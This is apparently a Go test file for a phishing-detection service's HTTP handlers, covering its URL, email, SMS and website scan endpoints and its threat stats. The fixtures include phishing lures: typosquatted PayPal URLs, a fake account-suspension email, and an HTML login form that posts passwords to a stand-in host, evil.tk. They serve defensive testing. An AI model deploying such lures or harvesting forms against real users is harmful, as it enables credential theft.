package handlers

import (
	"bytes"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"phishshield/internal/domain/models"
	"phishshield/internal/domain/services"
	"phishshield/pkg/logger"
)

func newTestHandlers(t *testing.T) (*Handlers, *services.MemoryThreatLog) {
	t.Helper()
	threatLog := services.NewMemoryThreatLog()
	log := logger.NewDefault()
	svc := services.NewScanService(threatLog, nil, log)
	h := NewHandlers(Dependencies{
		ScanService: svc,
		ThreatLog:   threatLog,
		Logger:      log,
	})
	return h, threatLog
}

func postJSON(t *testing.T, handler http.HandlerFunc, body any) *httptest.ResponseRecorder {
	t.Helper()
	payload, err := json.Marshal(body)
	require.NoError(t, err)
	req := httptest.NewRequest(http.MethodPost, "/", bytes.NewReader(payload))
	req.Header.Set("Content-Type", "application/json")
	rec := httptest.NewRecorder()
	handler(rec, req)
	return rec
}

func TestScanURLHandler(t *testing.T) {
	h, _ := newTestHandlers(t)

	rec := postJSON(t, h.Scan.ScanURL, models.URLScanRequest{URL: "http://paypa1.com/secure-login"})

	require.Equal(t, http.StatusOK, rec.Code)
	var resp models.ScanResponse
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &resp))
	assert.Equal(t, models.ScanTypeURL, resp.Type)
	assert.NotEmpty(t, resp.ScanID)
	assert.True(t, resp.Assessment.IsPhishing)
}

func TestScanURLHandlerMissingURL(t *testing.T) {
	h, _ := newTestHandlers(t)

	rec := postJSON(t, h.Scan.ScanURL, models.URLScanRequest{})

	assert.Equal(t, http.StatusBadRequest, rec.Code)
}

func TestScanURLHandlerInvalidBody(t *testing.T) {
	h, _ := newTestHandlers(t)

	req := httptest.NewRequest(http.MethodPost, "/", bytes.NewReader([]byte("{not json")))
	rec := httptest.NewRecorder()
	h.Scan.ScanURL(rec, req)

	assert.Equal(t, http.StatusBadRequest, rec.Code)
}

func TestScanURLBatchHandler(t *testing.T) {
	h, _ := newTestHandlers(t)

	rec := postJSON(t, h.Scan.ScanURLBatch, models.URLBatchScanRequest{
		URLs: []string{"https://example.com", "http://1.2.3.4/login"},
	})

	require.Equal(t, http.StatusOK, rec.Code)
	var resp models.BatchScanResponse
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &resp))
	assert.Equal(t, 2, resp.Count)
}

func TestScanEmailHandler(t *testing.T) {
	h, _ := newTestHandlers(t)

	rec := postJSON(t, h.Scan.ScanEmail, models.EmailScanRequest{
		Subject: "URGENT: verify your account",
		Body:    "Your PayPal account is suspended, confirm your identity at http://paypal-verify.tk now",
		Sender:  "security@paypal-verify.tk",
	})

	require.Equal(t, http.StatusOK, rec.Code)
	var resp models.ScanResponse
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &resp))
	assert.Equal(t, models.ScanTypeEmail, resp.Type)
}

func TestScanSMSHandlerMissingMessage(t *testing.T) {
	h, _ := newTestHandlers(t)

	rec := postJSON(t, h.Scan.ScanSMS, models.SMSScanRequest{Sender: "VM-ALERT"})

	assert.Equal(t, http.StatusBadRequest, rec.Code)
}

func TestScanWebsiteHandler(t *testing.T) {
	h, _ := newTestHandlers(t)

	rec := postJSON(t, h.Scan.ScanWebsite, models.WebsiteScanRequest{
		URL:   "http://login-verify.cfd",
		HTML:  `<form action="http://evil.tk/c"><input type="password"><input name="username"><input name="email"></form>`,
		Title: "Secure Login",
	})

	require.Equal(t, http.StatusOK, rec.Code)
	var resp models.ScanResponse
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &resp))
	assert.Equal(t, models.ScanTypeWebsite, resp.Type)
	assert.Len(t, resp.Engines, 3)
}

func TestThreatsHandlerRecentAndStats(t *testing.T) {
	h, _ := newTestHandlers(t)

	// Record a couple of scans first
	postJSON(t, h.Scan.ScanURL, models.URLScanRequest{URL: "https://example.com"})
	postJSON(t, h.Scan.ScanURL, models.URLScanRequest{URL: "http://paypa1.com/secure-login"})

	req := httptest.NewRequest(http.MethodGet, "/api/v1/threats?limit=10", nil)
	rec := httptest.NewRecorder()
	h.Threats.Recent(rec, req)

	require.Equal(t, http.StatusOK, rec.Code)
	var listing struct {
		Threats []models.ThreatLogEntry `json:"threats"`
		Count   int                     `json:"count"`
	}
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &listing))
	assert.Equal(t, 2, listing.Count)

	req = httptest.NewRequest(http.MethodGet, "/api/v1/stats", nil)
	rec = httptest.NewRecorder()
	h.Threats.Stats(rec, req)

	require.Equal(t, http.StatusOK, rec.Code)
	var stats models.ThreatStats
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &stats))
	assert.Equal(t, 2, stats.TotalScans)
	assert.Equal(t, 1, stats.PhishingDetected)
}

func TestThreatsHandlerBadLimit(t *testing.T) {
	h, _ := newTestHandlers(t)

	req := httptest.NewRequest(http.MethodGet, "/api/v1/threats?limit=abc", nil)
	rec := httptest.NewRecorder()
	h.Threats.Recent(rec, req)

	assert.Equal(t, http.StatusBadRequest, rec.Code)
}

func TestHealthHandler(t *testing.T) {
	h, _ := newTestHandlers(t)

	req := httptest.NewRequest(http.MethodGet, "/health", nil)
	rec := httptest.NewRecorder()
	h.Health.Check(rec, req)

	require.Equal(t, http.StatusOK, rec.Code)
	var resp HealthResponse
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &resp))
	assert.Equal(t, "healthy", resp.Status)
}
